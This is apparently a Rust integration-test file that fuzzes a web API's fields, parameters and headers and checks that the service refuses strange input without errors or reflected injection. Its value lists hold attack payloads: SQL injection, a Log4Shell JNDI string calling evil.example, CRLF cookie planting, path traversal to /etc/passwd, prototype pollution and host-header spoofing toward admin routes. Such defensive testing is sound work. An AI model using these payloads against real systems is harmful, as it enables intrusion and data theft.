//! Texts, numbers and ids that nobody should send, in every field, parameter and path of every operation: never our fault,
//! never a header of the answer, never said back as something else.

use crate::story::{Story, User};
use crate::surface::{Operation, allowed, document, filled, operations, request, sample, with_service_key};
use mana_testkit::Reply;
use serde_json::{Value, json};

/// Texts that mean something to somebody further on.
fn texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        "\0",
        "a\0b",
        "\u{1}",
        "\u{7f}",
        "\u{85}",
        "\u{2028}",
        "\u{202e}moc.elpmaxe@ada",
        "\u{feff}",
        "\u{ffff}",
        "\u{10ffff}",
        "a\r\nSet-Cookie: planted=1",
        "a\nb",
        "'; DROP TABLE auth.users; --",
        "' OR '1'='1",
        "\\",
        "\\u0000",
        "%00",
        "%0d%0a",
        "{{7*7}}",
        "${jndi:ldap://evil.example/x}",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "=1+1",
        "null",
        "NaN",
        "",
        " ",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.push("x".repeat(60_000));
    texts.push("\u{1f980}".repeat(15_000));
    texts.push("e\u{301}".repeat(15_000));
    texts
}

fn numbers() -> [Value; 8] {
    [
        json!(0),
        json!(-1),
        json!(i64::MIN),
        json!(i64::MAX),
        json!(u64::MAX),
        json!(9_007_199_254_740_992_u64),
        json!(1.5),
        json!(1e300),
    ]
}

fn is_answered_for(reply: &Reply, operation: &Operation, what: &str) {
    let status = reply.status.as_u16();
    let place = format!("{} {} {what}", operation.method, operation.path);
    assert!(status < 500, "{place}: {}", reply.json);
    assert!(operation.statuses.contains(&status), "{place} is answered with {status}, undocumented");
    let is_planted =
        |value: &http::HeaderValue| String::from_utf8_lossy(value.as_bytes()).contains("planted=1");
    assert!(!reply.headers.values().any(is_planted), "{place}: {:?}", reply.headers);
}

/// Limits of guesses stay off: what is tried here is what stands behind them.
async fn stage() -> (Story, User) {
    let story = with_service_key().await;
    let ada = story.administrator("ada@example.com").await;
    (story, ada)
}

#[tokio::test]
async fn strange_values_in_any_field_of_any_operation_are_refused_or_kept_as_they_are() {
    let (story, ada) = stage().await;
    let document = document();
    let mut tried = 0;
    for operation in operations(&document) {
        let Some(schema) = &operation.body else { continue };
        if operation.path.ends_with("/logout") {
            continue;
        }
        let valid = sample(&document, schema);
        for (name, property) in schema["properties"].as_object().into_iter().flatten() {
            let values: Vec<Value> = match sample(&document, property) {
                // Each takes a password's hash.
                Value::String(_) if name == "password" => {
                    vec![json!("\0\0\0\0\0\0\0\0"), json!("x".repeat(60_000))]
                }
                Value::String(_) => texts().into_iter().map(Value::from).collect(),
                Value::Number(_) => numbers().to_vec(),
                Value::Object(_) => vec![
                    json!({"\0": "\0"}),
                    json!({"__proto__": {"role": "admin"}}),
                    json!({"constructor": {"prototype": {}}}),
                    json!({"x": "x".repeat(60_000)}),
                ],
                Value::Array(items) => vec![
                    json!([]),
                    Value::Array(items.iter().cycle().take(1_001).cloned().collect()),
                    json!([null]),
                    json!([[]]),
                ],
                Value::Null | Value::Bool(_) => vec![json!(0), json!("true")],
            };
            for value in values {
                let mut body = valid.clone();
                body[name] = value.clone();
                let reply = allowed(request(&story, &operation, Some(&body)), &operation, &ada).send().await;
                let shown: String = value.to_string().chars().take(60).collect();
                is_answered_for(&reply, &operation, &format!("{name}={shown}"));
                tried += 1;
            }
        }
        let reply = allowed(request(&story, &operation, Some(&valid)), &operation, &ada).send().await;
        let is_read =
            reply.json["code"] != "request.invalid_body" && reply.json["code"] != "request.malformed_json";
        assert!(
            is_read || operation.path.ends_with("/batch"),
            "the control: {} {}",
            operation.path,
            reply.json
        );
    }
    assert!(tried > 300, "{tried}");
}

#[tokio::test]
async fn strange_parameters_and_ids_are_refused_for_every_operation() {
    let (story, ada) = stage().await;
    let long = "9".repeat(20_000);
    let values = [
        "",
        "-1",
        "0",
        "%2B1",
        "01",
        "1e3",
        "0x10",
        "NaN",
        "%00",
        "%ff",
        "%ff%fe",
        "%0d%0aSet-Cookie:%20planted=1",
        "%27%20OR%201=1--",
        "99999999999999999999",
        "%D9%A1",
        "../..",
        "%2e%2e%2f",
        "%F0%9F%A6%80",
        "null",
        "[]",
        "2026-02-30",
        "2026-01-01T00:00:00Z",
        "-999999-01-01",
        "99999-01-01",
        &long,
    ];
    let document = document();
    let mut tried = 0;
    for operation in operations(&document) {
        let method = operation.method.as_str().to_lowercase();
        let parameters = document["paths"][&operation.path][method]["parameters"].clone();
        for parameter in parameters.as_array().into_iter().flatten() {
            let name = parameter["name"].as_str().unwrap();
            for value in values {
                let paths = match parameter["in"].as_str().unwrap() {
                    "path" if value.is_empty() || value.contains('/') => continue,
                    "path" => vec![operation.path.replace(&format!("{{{name}}}"), value)],
                    "query" => {
                        let path = filled(&operation.path);
                        vec![
                            format!("{path}?{name}={value}"),
                            format!("{path}?{name}={value}&{name}={value}"),
                            format!("{path}?{name}[]={value}"),
                        ]
                    }
                    _ => continue,
                };
                for path in paths {
                    let body = operation.body.as_ref().map(|schema| sample(&document, schema));
                    let mut attempt =
                        allowed(story.client.request(operation.method.clone(), &path), &operation, &ada);
                    if let Some(body) = &body {
                        attempt = attempt.body("application/json", body.to_string());
                    }
                    let reply = attempt.send().await;
                    let shown: String = path.chars().take(90).collect();
                    is_answered_for(&reply, &operation, &shown);
                    let is_twice = path.matches(&format!("{name}=")).count() == 2;
                    assert!(!is_twice || reply.status == 400, "{shown} is given twice: {}", reply.status);
                    tried += 1;
                }
            }
        }
    }
    assert!(tried > 500, "{tried}");
    assert!(story.is_signed_in(&ada).await);
}

#[tokio::test]
async fn strange_headers_are_nobodys_fault_of_ours() {
    let (story, ada) = stage().await;
    let huge = "x".repeat(30_000);
    for operation in operations(&document()) {
        // These would end the session that the others need.
        if ["/logout", "/sign-out", "/account"].iter().any(|end| operation.path.ends_with(end)) {
            continue;
        }
        for (name, value) in [
            ("user-agent", huge.as_str()),
            ("user-agent", "\u{e4}\u{1f980}"),
            ("accept-language", huge.as_str()),
            ("accept-language", ";;;q=,,,*;q=9"),
            ("x-app-id", "\u{202e}"),
            ("x-app-id", huge.as_str()),
            ("x-request-id", "../../x"),
            ("x-forwarded-for", "unknown, , 999.1.1.1, ::ffff:1.2.3.4%eth0"),
            ("cookie", "mana.session_token=; mana.session_token; =; ;;; \u{e4}=\"\\"),
            ("cookie", huge.as_str()),
            ("if-match", "W/\"1\", *"),
            ("idempotency-key", huge.as_str()),
            ("content-encoding", "gzip, br, zstd"),
            ("range", "bytes=0-0,-1"),
            ("if-none-match", "*"),
            ("accept", "text/html;q=x,*"),
            ("forwarded", "for=\"_evil\";host=evil.example"),
            ("x-forwarded-host", "evil.example"),
            ("x-original-url", "/api/v1/admin/service-keys"),
            ("x-rewrite-url", "/metrics"),
        ] {
            let reply =
                allowed(request(&story, &operation, None), &operation, &ada).header(name, value).send().await;
            let shown: String = value.chars().take(40).collect();
            assert!(reply.status.as_u16() < 500, "{} {name}: {shown}: {}", operation.path, reply.json);
            let text = String::from_utf8_lossy(&reply.bytes);
            assert!(!text.contains("evil.example"), "{} {name}", operation.path);
            assert!(
                reply
                    .headers
                    .values()
                    .all(|value| !String::from_utf8_lossy(value.as_bytes()).contains("evil.example"))
            );
        }
    }
    assert!(story.is_signed_in(&ada).await);
}
